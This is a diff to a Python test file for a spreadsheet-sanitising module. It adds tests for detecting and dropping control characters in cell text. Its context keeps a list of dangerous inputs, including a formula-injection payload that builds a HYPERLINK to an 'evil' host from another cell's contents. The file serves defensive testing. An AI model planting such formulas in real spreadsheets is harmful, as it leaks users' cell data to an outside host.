@@ -8,7 +8,12 @@ import io
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from fangkong.core.spreadsheet import formula_safe, formula_unescape, xml_safe
+from fangkong.core.spreadsheet import (
+    formula_safe,
+    formula_unescape,
+    has_control_characters,
+    xml_safe,
+)
 
 DANGEROUS = [
     '=HYPERLINK("http://evil/?"&A2,"x")',
@@ -41,7 +46,18 @@ def test_plain_values_pass_through() -> None:
 
 
 def test_control_characters_are_dropped() -> None:
-    assert formula_safe("a\x00b\x1fc\td\ne") == "abc\td\ne"
+    assert formula_safe("a\x00b\x1fc\td\ne\x7f") == "abc\td\ne"
+
+
+@pytest.mark.parametrize("text", ["\x00", "a\x01", "\x0b", "\x0c", "b\x1f", "\x7f"])
+def test_the_control_characters_refused_at_input_are_those_an_export_drops(text: str) -> None:
+    # One pattern: what an input refuses is exactly what an export would drop.
+    assert has_control_characters(text)
+    assert not has_control_characters(xml_safe(text))
+
+
+def test_tab_and_line_breaks_are_text() -> None:
+    assert not has_control_characters("一楼\t二楼\r\n三楼")
 
 
 def test_an_escaped_cell_is_stored_as_text_not_a_formula() -> None:
